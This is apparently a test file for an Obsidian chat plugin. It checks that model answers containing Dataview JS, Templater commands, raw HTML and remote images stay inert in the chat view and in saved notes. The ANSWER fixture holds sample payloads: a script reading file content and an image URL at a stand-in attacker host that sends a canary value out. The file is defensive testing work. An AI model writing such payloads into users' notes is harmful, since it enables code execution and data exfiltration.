import { act, fireEvent } from '@testing-library/react/pure';
import { EditorSelection } from '@codemirror/state';
import { EditorView } from '@codemirror/view';
import GlassboxPlugin from '../../src/main';
import { ConversationStore } from '../../src/obsidian/notes/conversation-store';
import type { ConversationSaver } from '../../src/chat';
import { createFakeApp, editorInfoField, editorLivePreviewField, FakeDataviewPlugin, FakeTemplaterPlugin, clearPluginRuns, pluginRuns, renderReadingView, type App } from '../../tools/fake-obsidian';
import { scenario } from '../../tools/model-server';
import manifestJson from '../../manifest.json';
import { chatViewPerTest, sendMessage, until } from '../support/chat-view-harness';

// Issue 25 item 1: an answer carrying what Dataview and Templater run, raw HTML and a remote
// image. The fake host's stand-ins for those plugins are registered as the real ones register
// them (tools/fake-obsidian/community), and the fake renders raw HTML live as Obsidian does
// (`rawHtml`); the first test shows they do run this text in a user's
// note, the others that they never see it in a runnable form from Glassbox.

const ANSWER = [
  'Here is everything a note could run:',
  '',
  '```dataviewjs',
  'dv.paragraph(dv.current().file.content)',
  '```',
  '',
  'Pages: `$= dv.pages().length`, name: `= this.file.name`.',
  '',
  'Now: <%+ tp.file.content %>',
  '',
  '<%* await tp.system.prompt("pwned") %>',
  '',
  '<iframe src="https://attacker.example/frame"></iframe> <img src="https://attacker.example/raw.png">',
  '',
  'A chart: ![chart](https://attacker.example/leak?d=hostile-canary-7731)',
].join('\n');

const chat = chatViewPerTest();
const remoteImages = (root: ParentNode) => root.querySelectorAll('img[src^="https://attacker.example"], iframe');
const runs = () => pluginRuns.map((run) => run.kind);

async function installPlugins(app: App): Promise<FakeTemplaterPlugin> {
  await app.loadPlugin(FakeDataviewPlugin, { id: 'dataview', name: 'Dataview', version: '0.5.68' } as never);
  return app.loadPlugin(FakeTemplaterPlugin, { id: 'templater-obsidian', name: 'Templater', version: '2.16.0' } as never);
}

/** The chat view saving into the fake vault through the plugin's own store. */
async function openChat(): Promise<{ app: App; templater: FakeTemplaterPlugin; root: HTMLElement; view: { notePath: string } }> {
  let store: ConversationStore | null = null;
  const conversations: ConversationSaver = { save: (conversation) => store!.save(conversation) };
  const answer = scenario().turn((t) => t.text(ANSWER, { chunkChars: 24 }));
  const opened = await chat.open({ scenarios: { answer }, model: 'answer', extra: { saver: conversations }, rawHtml: true });
  store = new ConversationStore({ vault: opened.app.vault as never, metadataCache: opened.app.metadataCache as never, folder: () => 'Glassbox/Conversations' });
  const templater = await installPlugins(opened.app);
  return { app: opened.app, templater, root: opened.view.contentEl, view: opened.view };
}

beforeEach(clearPluginRuns);
afterEach(() => document.body.replaceChildren());

describe('model text that other plugins would run', () => {
  it('is a real trap: in a user note the same text runs Dataview and Templater and loads the image', async () => {
    const app = createFakeApp({ rawHtml: true });
    const templater = await installPlugins(app);
    await app.vault.create('Pasted answer.md', ANSWER);
    await templater.settled();
    const el = document.body.createDiv();
    await renderReadingView(app, { path: 'Pasted answer.md', el });
    expect(runs()).toEqual(['templater-on-create', 'templater-on-create', 'dataviewjs-block', 'dataview-inline-js', 'dataview-inline-query', 'templater-dynamic']);
    expect([...remoteImages(el)].map((element) => element.getAttribute('src'))).toEqual([
      'https://attacker.example/frame',
      'https://attacker.example/raw.png',
      'https://attacker.example/leak?d=hostile-canary-7731',
    ]);
  });

  it('runs nothing in the chat view, while streaming, on the note it creates and once that note is its source; the image waits for a click', async () => {
    const { templater, root, view } = await openChat();
    await sendMessage(root, 'Show me what you can do');
    await until(() => root.textContent.includes('A chart') && root.querySelector('[data-testid="stop-button"]') === null);
    await until(() => view.notePath !== '');
    await act(() => templater.settled());
    expect(view.notePath).toBe('Glassbox/Conversations/Show me what you can do.md');
    expect(runs()).toEqual([]);
    // Raw HTML reads as text; the code stays code; the remote image is a button naming its host.
    expect(remoteImages(root)).toHaveLength(0);
    expect(root.textContent.replace(/\u200b/g, '')).toContain('<iframe src="https://attacker.example/frame"></iframe>');
    expect(root.querySelector('pre > code')?.textContent).toBe('dv.paragraph(dv.current().file.content)\n');
    const button = root.querySelector<HTMLButtonElement>('[data-testid="load-image"]')!;
    expect(button.textContent).toBe('Load image from attacker.example');
    expect(button.title).toBe('https://attacker.example/leak?d=hostile-canary-7731');
    await act(async () => {
      fireEvent.click(button);
      await Promise.resolve();
    });
    expect([...remoteImages(root)].map((image) => [image.getAttribute('src'), image.getAttribute('alt')])).toEqual([['https://attacker.example/leak?d=hostile-canary-7731', 'chart']]);
  });

  it('runs nothing in the reading view and Live Preview of the saved note, which keeps the text readable', async () => {
    const chatted = await openChat();
    await sendMessage(chatted.root, 'Show me what you can do');
    await until(() => chatted.view.notePath !== '' && chatted.root.querySelector('[data-testid="stop-button"]') === null);
    const path = chatted.view.notePath;
    const note = chatted.app.vault.readNow(path) ?? '';
    // Readable: without its zero-width spaces the note holds the answer as the model wrote it.
    expect(note.replace(/\u200b/g, '')).toContain(ANSWER);
    expect(note).not.toContain(ANSWER);

    // The note opened in a vault with Glassbox, Dataview and Templater.
    const app = createFakeApp({ files: { [path]: note }, rawHtml: true });
    await installPlugins(app);
    await app.loadPlugin(GlassboxPlugin, manifestJson);
    clearPluginRuns();
    const el = document.body.createDiv();
    await act(async () => {
      await renderReadingView(app, { path, el });
    });
    expect(runs()).toEqual([]);
    expect(remoteImages(el)).toHaveLength(0);
    expect(el.querySelector('[data-testid="load-image"]')?.textContent).toBe('Load image from attacker.example');

    let editor!: EditorView;
    act(() => {
      editor = new EditorView({
        doc: note,
        selection: EditorSelection.cursor(0),
        extensions: [editorLivePreviewField.init(() => true), editorInfoField.init(() => ({ file: app.vault.getFileByPath(path) })), ...app.editorExtensions],
        parent: document.body.createDiv(),
      });
    });
    expect(pluginRuns).toEqual([]);
    // The positive control in the same editor: the answer as the model wrote it would run.
    act(() => editor.dispatch({ changes: { from: editor.state.doc.length, insert: `\n${ANSWER}` } }));
    expect(runs()).toContain('dataview-live-preview');
    act(() => editor.destroy());
  });
});
